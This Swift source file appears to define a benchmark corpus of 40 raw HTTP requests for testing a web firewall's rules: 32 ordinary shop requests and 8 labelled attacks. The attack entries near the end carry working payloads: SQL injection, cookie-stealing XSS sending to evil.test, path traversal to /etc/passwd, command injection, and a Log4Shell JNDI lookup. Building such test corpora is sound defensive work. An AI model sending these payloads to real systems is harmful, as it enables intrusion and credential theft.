/// The fixed request corpus: 40 requests of a small web app (a shop with a search page, a JSON
/// API, logins and uploads) as raw HTTP/1.1 bytes, 32 ordinary and 8 attacks.
///
/// Fixed so that figures from different runs and commits compare; 40 so that one benchmark
/// iteration (`scalingFactor: .kilo`, 1,000 requests) is exactly 25 passes over it and every
/// request weighs the same. Ordinary requests carry what real ones do (browser headers, cookies,
/// quotes and SQL words in search text) so that rules do real work on them; the attacks are not
/// fitted to any rule set.
enum Corpus {
    /// One entry: a label for reports and the request on the wire.
    struct Entry: Sendable {
        var label: String
        var attack: Bool
        var wire: [UInt8]
    }

    static let browserHeaders = """
        User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0
        Accept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8
        Accept-Language: en-GB,en;q=0.7
        Accept-Encoding: gzip, deflate, br
        Cookie: session=3f9a1c0b7e5d4a2f8c6b1e0d9a7f5c3b; theme=dark; cart=sku-1042%2Csku-2210
        """

    static let apiHeaders = """
        User-Agent: shop-app/3.4.1 (Android 14; Pixel 8)
        Accept: application/json
        Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MjEiLCJleHAiOjE3MzAwMDAwMDB9.c2lnbmF0dXJl
        """

    /// `head` lines separated by `\n` (CRLF on the wire); a body gets its Content-Length.
    static func request(_ label: String, attack: Bool = false, _ head: String, body: String = "",
                        contentType: String? = nil) -> Entry {
        var lines = head.split(separator: "\n", omittingEmptySubsequences: true).map(String.init)
        lines.insert("Host: shop.example.test", at: 1)
        if let contentType { lines.append("Content-Type: \(contentType)") }
        if !body.isEmpty || lines[0].hasPrefix("POST") || lines[0].hasPrefix("PUT") || lines[0].hasPrefix("PATCH") {
            lines.append("Content-Length: \(body.utf8.count)")
        }
        var wire: [UInt8] = []
        for line in lines {
            wire.append(contentsOf: line.utf8)
            wire.append(contentsOf: [0x0D, 0x0A])
        }
        wire.append(contentsOf: [0x0D, 0x0A])
        wire.append(contentsOf: body.utf8)
        return Entry(label: label, attack: attack, wire: wire)
    }

    static let multipartBoundary = "----portcullisbench7MA4YWxkTrZu0gW"

    static func multipart(_ parts: [(name: String, filename: String?, type: String?, content: String)]) -> String {
        var body = ""
        for part in parts {
            body += "--\(multipartBoundary)\r\n"
            body += "Content-Disposition: form-data; name=\"\(part.name)\""
            if let filename = part.filename { body += "; filename=\"\(filename)\"" }
            body += "\r\n"
            if let type = part.type { body += "Content-Type: \(type)\r\n" }
            body += "\r\n\(part.content)\r\n"
        }
        return body + "--\(multipartBoundary)--\r\n"
    }

    static let entries: [Entry] = [
        // Pages and assets.
        request("get-home", "GET / HTTP/1.1\n\(browserHeaders)"),
        request("get-static-css", "GET /static/css/site.3f2a91.css HTTP/1.1\n\(browserHeaders)\nReferer: https://shop.example.test/"),
        request("get-static-js", "GET /static/js/app.min.js?v=20240611 HTTP/1.1\n\(browserHeaders)"),
        request("get-product", "GET /products/1042-walnut-desk HTTP/1.1\n\(browserHeaders)\nReferer: https://shop.example.test/search?q=desk"),
        request("get-healthz", "GET /healthz HTTP/1.1\nUser-Agent: kube-probe/1.29"),
        request("head-image", "HEAD /images/products/1042/main.webp HTTP/1.1\n\(browserHeaders)"),
        // Queries with arguments, quotes and SQL-looking words.
        request("get-search-plain", "GET /search?q=walnut+desk&sort=price_asc&page=2 HTTP/1.1\n\(browserHeaders)"),
        request("get-search-quotes", "GET /search?q=%22rock+%27n%27+roll%22+poster&lang=en HTTP/1.1\n\(browserHeaders)"),
        request("get-search-sql-words", "GET /search?q=select+a+union+station+table+and+drop+leaf+chair HTTP/1.1\n\(browserHeaders)"),
        request("get-search-unicode", "GET /search?q=caf%C3%A9+cr%C3%A8me+br%C3%BBl%C3%A9e&filters%5Bcolor%5D=red&filters%5Bsize%5D=M HTTP/1.1\n\(browserHeaders)"),
        request("get-list-many-args", "GET /api/products?category=furniture&min_price=50&max_price=400&in_stock=true&sort=-rating&fields=id,name,price,rating&page=1&per_page=48&utm_source=newsletter&utm_medium=email&utm_campaign=spring-sale HTTP/1.1\n\(apiHeaders)"),
        request("get-redirect-param", "GET /login?next=%2Faccount%2Forders%3Fstatus%3Dshipped HTTP/1.1\n\(browserHeaders)"),
        request("get-api-order", "GET /api/orders/88231?include=items,shipping HTTP/1.1\n\(apiHeaders)"),
        request("get-docs-dots", "GET /docs/v1.2/release-notes.html?ref=v1.1..v1.2 HTTP/1.1\n\(browserHeaders)"),
        request("get-tracking-pixel", "GET /t.gif?e=view&p=%2Fproducts%2F1042&r=https%3A%2F%2Fwww.example.org%2F&ts=1718092233 HTTP/1.1\n\(browserHeaders)"),
        request("options-cors", "OPTIONS /api/cart HTTP/1.1\nOrigin: https://app.example.test\nAccess-Control-Request-Method: PUT\nAccess-Control-Request-Headers: content-type,authorization"),
        // Form posts.
        request("post-login", "POST /login HTTP/1.1\n\(browserHeaders)\nOrigin: https://shop.example.test",
                body: "username=alice%40example.org&password=c0rrect+h0rse%21&remember=on&csrf=9f8e7d6c5b4a",
                contentType: "application/x-www-form-urlencoded"),
        request("post-search-form", "POST /search HTTP/1.1\n\(browserHeaders)",
                body: "q=O%27Reilly+%26+Sons+-+select+titles&category=books&sort=relevance",
                contentType: "application/x-www-form-urlencoded"),
        request("post-comment", "POST /products/1042/reviews HTTP/1.1\n\(browserHeaders)",
                body: "rating=4&title=Solid+desk&body=Sturdy+and+easy+to+assemble.+The+drawer+runs+a+bit+stiff%2C+and+the+%22walnut%22+is+a+veneer+%E2%80%94+still+good+value+for+%24249.&csrf=9f8e7d6c5b4a",
                contentType: "application/x-www-form-urlencoded"),
        request("post-address", "POST /account/address HTTP/1.1\n\(browserHeaders)",
                body: "name=Se%C3%A1n+O%27Brien&line1=12+Union+Street&line2=Flat+3&city=Cork&postcode=T12+X70&country=IE&phone=%2B353+21+555+0100",
                contentType: "application/x-www-form-urlencoded"),
        request("post-newsletter", "POST /newsletter HTTP/1.1\n\(browserHeaders)",
                body: "email=bob.smith%2Bshop%40example.com&topics=deals&topics=new-arrivals",
                contentType: "application/x-www-form-urlencoded"),
        request("post-checkout", "POST /checkout HTTP/1.1\n\(browserHeaders)",
                body: "shipping=express&gift=1&gift_message=Happy+birthday%21+Don%27t+open+until+Sunday+%3A%29&coupon=SPRING24&terms=accepted&csrf=9f8e7d6c5b4a",
                contentType: "application/x-www-form-urlencoded; charset=UTF-8"),
        request("post-upload-avatar", "POST /account/avatar HTTP/1.1\n\(browserHeaders)",
                body: multipart([("csrf", nil, nil, "9f8e7d6c5b4a"),
                                 ("avatar", "me.png", "image/png", "\u{89}PNG fake image bytes for the benchmark, not inspected as text 0123456789abcdef")]),
                contentType: "multipart/form-data; boundary=\(multipartBoundary)"),
        request("post-upload-csv", "POST /admin/import HTTP/1.1\n\(browserHeaders)",
                body: multipart([("mode", nil, nil, "merge"),
                                 ("file", "products.csv", "text/csv",
                                  "sku,name,price\r\nsku-1042,Walnut desk,249.00\r\nsku-2210,\"Chair, oak\",89.50\r\nsku-3301,Lamp,19.99")]),
                contentType: "multipart/form-data; boundary=\(multipartBoundary)"),
        // JSON API.
        request("post-json-cart", "POST /api/cart/items HTTP/1.1\n\(apiHeaders)",
                body: #"{"sku":"sku-1042","quantity":1,"options":{"finish":"walnut","assembly":false}}"#,
                contentType: "application/json"),
        request("put-json-profile", "PUT /api/users/421/profile HTTP/1.1\n\(apiHeaders)",
                body: #"{"display_name":"Alice O'Neil","bio":"I select furniture; union member; I drop by on weekends.","links":["https://example.org/alice"],"newsletter":true}"#,
                contentType: "application/json"),
        request("patch-json-order", "PATCH /api/orders/88231 HTTP/1.1\n\(apiHeaders)",
                body: #"{"shipping":{"method":"express","address":{"line1":"12 Union Street","city":"Cork","postcode":"T12 X70"}},"notes":"Leave at the door, ring twice"}"#,
                contentType: "application/json"),
        request("delete-api-item", "DELETE /api/cart/items/sku-2210 HTTP/1.1\n\(apiHeaders)"),
        request("post-json-search", "POST /api/search HTTP/1.1\n\(apiHeaders)",
                body: #"{"query":"\"standing desk\" -glass","filters":[{"field":"price","op":"lt","value":500},{"field":"rating","op":"gte","value":4}],"page":{"size":24,"cursor":"eyJvZmZzZXQiOjI0fQ=="}}"#,
                contentType: "application/json"),
        request("post-json-graphql", "POST /graphql HTTP/1.1\n\(apiHeaders)",
                body: #"{"operationName":"Orders","query":"query Orders($first: Int!) { viewer { orders(first: $first) { edges { node { id total status items { sku qty } } } } } }","variables":{"first":10}}"#,
                contentType: "application/json"),
        request("post-json-events", "POST /api/events HTTP/1.1\n\(apiHeaders)",
                body: #"[{"type":"view","path":"/products/1042","ts":1718092233},{"type":"add_to_cart","sku":"sku-1042","ts":1718092240},{"type":"checkout_start","ts":1718092301}]"#,
                contentType: "application/json"),
        request("put-json-settings", "PUT /api/users/421/settings HTTP/1.1\n\(apiHeaders)",
                body: #"{"locale":"en-GB","currency":"EUR","notifications":{"email":true,"sms":false},"role":"customer"}"#,
                contentType: "application/json"),
        // Attacks.
        request("attack-sqli-union", attack: true, "GET /search?q=1%27%20UNION%20ALL%20SELECT%20username%2Cpassword%20FROM%20users--%20- HTTP/1.1\n\(browserHeaders)"),
        request("attack-sqli-tautology", attack: true, "POST /login HTTP/1.1\n\(browserHeaders)",
                body: "username=admin%27+OR+%271%27%3D%271&password=x",
                contentType: "application/x-www-form-urlencoded"),
        request("attack-xss-reflected", attack: true, "GET /search?q=%3Cscript%3Edocument.location%3D%27https%3A%2F%2Fevil.test%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E HTTP/1.1\n\(browserHeaders)"),
        request("attack-xss-json", attack: true, "POST /api/products/1042/reviews HTTP/1.1\n\(apiHeaders)",
                body: #"{"rating":5,"body":"<img src=x onerror=alert(document.domain)>"}"#,
                contentType: "application/json"),
        request("attack-traversal", attack: true, "GET /download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1\n\(browserHeaders)"),
        request("attack-rce", attack: true, "POST /tools/ping HTTP/1.1\n\(browserHeaders)",
                body: "host=127.0.0.1%3B+cat+%2Fetc%2Fhostname&count=1",
                contentType: "application/x-www-form-urlencoded"),
        request("attack-log4shell", attack: true, "GET / HTTP/1.1\nUser-Agent: Mozilla/5.0\nX-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}"),
        request("attack-scanner", attack: true, "GET /wp-login.php HTTP/1.1\nUser-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"),
    ]
}
